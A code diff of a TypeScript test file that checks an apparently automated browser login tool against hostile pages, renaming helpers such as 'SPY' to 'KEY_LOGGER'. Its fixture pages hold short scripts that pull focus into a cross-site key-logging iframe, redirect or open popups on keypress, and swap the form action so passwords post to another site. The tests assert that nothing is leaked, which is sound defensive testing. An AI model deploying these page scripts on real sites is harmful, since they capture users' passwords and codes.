@@ -3,15 +3,15 @@ import { readLogin } from '../../activities/login/reading/read-login.ts';
 import { it } from '../browser/shared-service.ts';
 import { useStore } from '../store/databases.ts';
 import {
-  AWAY,
+  OTHER_SITE,
   CODE as CODE_TYPED,
   FORM,
   PASSWORD,
   PASSWORD_IN_FORM,
-  SPY,
-  startEntering,
-  type Entering,
-} from './entering.ts';
+  KEY_LOGGER,
+  startLoginOnSite,
+  type LoginOnSite,
+} from './login-on-site.ts';
 
 /** A second step, which asks for the password alone. */
 const ONE = (more: string): string =>
@@ -37,28 +37,28 @@ const PAGES: Record<string, string> = {
     'document.forms[0].onsubmit = ({ target }) => { setTimeout(() => { answer(); target.submit() }, 300); return false };',
   ),
   '/plain': FORM(),
-  '/trap': `${SPY('trap')}${FORM('<script>document.getElementById("pass").focus()</script>')}`,
-  '/trap-input': `${SPY('trap')}<input id="x" autofocus><script>document.getElementById("x").focus()</script>`,
+  '/trap': `${KEY_LOGGER('trap')}${FORM('<script>document.getElementById("pass").focus()</script>')}`,
+  '/trap-input': `${KEY_LOGGER('trap')}<input id="x" autofocus><script>document.getElementById("x").focus()</script>`,
   '/leaves-on-focus': FORM(
-    `<script>document.getElementById('pass').onfocus = () => location = '${AWAY}/trap';</script>`,
+    `<script>document.getElementById('pass').onfocus = () => location = '${OTHER_SITE}/trap';</script>`,
   ),
   '/leaves-on-focus-late': FORM(
-    `<script>document.getElementById('pass').onfocus = () => setTimeout(() => location = '${AWAY}/trap', 5);</script>`,
+    `<script>document.getElementById('pass').onfocus = () => setTimeout(() => location = '${OTHER_SITE}/trap', 5);</script>`,
   ),
   '/leaves-on-key': FORM(
-    `<script>document.getElementById('pass').onkeydown = () => location = '${AWAY}/trap';</script>`,
+    `<script>document.getElementById('pass').onkeydown = () => location = '${OTHER_SITE}/trap';</script>`,
   ),
   '/popup-on-click': FORM(
-    `<script>addEventListener('click', () => open('${AWAY}/trap-input'), { once: true });</script>`,
+    `<script>addEventListener('click', () => open('${OTHER_SITE}/trap-input'), { once: true });</script>`,
   ),
   '/popup-on-key': FORM(
-    `<script>document.getElementById('pass').addEventListener('keydown', () => open('${AWAY}/trap-input'), { once: true });</script>`,
+    `<script>document.getElementById('pass').addEventListener('keydown', () => open('${OTHER_SITE}/trap-input'), { once: true });</script>`,
   ),
   '/search-steals': `<input id="search" type="search" name="q" placeholder="Search">${FORM(
     `<script>let n = 0; document.getElementById('pass').onkeydown = () => { if (++n === 4) document.getElementById('search').focus(); };</script>`,
   )}`,
-  '/frame-steals': ONE(`<iframe width="300" height="60" src="${AWAY}/stealer"></iframe>`),
-  '/stealer': `${SPY('frame')}<input id="x"><script>setInterval(() => document.getElementById('x').focus(), 10)</script>`,
+  '/frame-steals': ONE(`<iframe width="300" height="60" src="${OTHER_SITE}/stealer"></iframe>`),
+  '/stealer': `${KEY_LOGGER('frame')}<input id="x"><script>setInterval(() => document.getElementById('x').focus(), 10)</script>`,
   '/code': CODE(),
   '/code-boxes': `<h1>Enter the code</h1><form action="/in" method="post"><div>${Array.from(
     { length: 6 },
@@ -70,18 +70,18 @@ const PAGES: Record<string, string> = {
   '/code-goes': CODE(
     `<script>code.oninput = () => { if (code.value.length === 6) document.querySelector('form').submit(); };</script>`,
   ),
-  '/code-frame-steals': CODE(`<iframe width="300" height="60" src="${AWAY}/waits"></iframe>
+  '/code-frame-steals': CODE(`<iframe width="300" height="60" src="${OTHER_SITE}/waits"></iframe>
     <script>code.oninput = () => { if (code.value.length === 2) frames[0].postMessage('now', '*'); };</script>`),
-  '/waits': `${SPY('frame')}<input id="x"><script>onmessage = () => document.getElementById('x').focus();</script>`,
+  '/waits': `${KEY_LOGGER('frame')}<input id="x"><script>onmessage = () => document.getElementById('x').focus();</script>`,
   '/becomes-text': FORM(
     `<script>document.getElementById('user').addEventListener('input', () => { const p = document.getElementById('pass'); p.type = 'text'; p.name = 'comment'; });</script>`,
   ),
   '/swaps': FORM(
     `<script>document.getElementById('user').addEventListener('input', () => { const p = document.getElementById('pass'); p.outerHTML = '<textarea id="pass" name="comment"></textarea>'; }, { once: true });</script>`,
   ),
-  '/posts-away': FORM().replace('/in', `${AWAY}/taken`),
+  '/posts-away': FORM().replace('/in', `${OTHER_SITE}/taken`),
   '/turns-away': FORM(
-    `<script>document.querySelector('form').onsubmit = ({ target }) => { target.action = '${AWAY}/taken'; };</script>`,
+    `<script>document.querySelector('form').onsubmit = ({ target }) => { target.action = '${OTHER_SITE}/taken'; };</script>`,
   ),
   '/repeats': FORM(`<div role="alert">ann, the password ${PASSWORD} is wrong.</div>`),
   '/alerts': FORM(
@@ -90,9 +90,9 @@ const PAGES: Record<string, string> = {
 };
 
 const stores = useStore();
-let on: Entering;
+let on: LoginOnSite;
 it.beforeAll(async ({ service }) => {
-  on = await startEntering(service, stores().store, PAGES);
+  on = await startLoginOnSite(service, stores().store, PAGES);
 });
 afterAll(() => on.close());
 
@@ -111,7 +111,7 @@ describe('a password', () => {
     ['a page whose captcha answers itself as the form is sent', '/proves-unseen'],
   ])('is typed in full and once into its field on %s', async (_what, path) => {
     const outcome = await on.logIn(path);
-    expect(on.stolen).toEqual([]);
+    expect(on.capturedKeys).toEqual([]);
     expect(on.posted).toEqual(WHOLE());
     expect(outcome).toMatchObject({ reading: { kind: 'logged_in' } });
   });
@@ -123,18 +123,18 @@ describe('a password', () => {
     ['a form that turns to such a site as it is sent', '/turns-away', 'domain_not_allowed'],
   ])('is not leaked by %s', async (_what, path, code) => {
     expect(await on.logIn(path)).toBe(code);
-    expect([...on.stolen, ...on.posted]).toEqual([]);
+    expect([...on.capturedKeys, ...on.posted]).toEqual([]);
   });
 
   it('does not reach a page that tries to replace the login on each key', async () => {
     await on.logIn('/leaves-on-key');
-    expect(on.stolen).toEqual([]);
+    expect(on.capturedKeys).toEqual([]);
     expect(on.posted.filter((each) => each.startsWith('127.0.0.1'))).toEqual([]);
   });
 
   it('does not reach a cross-site frame that takes the focus', async () => {
     await on.logIn('/frame-steals');
-    expect(on.stolen).toEqual([]);
+    expect(on.capturedKeys).toEqual([]);
   });
 
   it('is redacted when a page repeats it steps later', async () => {
@@ -171,7 +171,7 @@ describe('a one-time code', () => {
 
   it('does not reach a cross-site frame that takes the focus', async () => {
     await on.logIn('/code-frame-steals');
-    expect(on.stolen).toEqual([]);
+    expect(on.capturedKeys).toEqual([]);
     expect(on.posted).toEqual([`localhost:${on.site.port} code=${CODE_TYPED}`]);
   });
 });
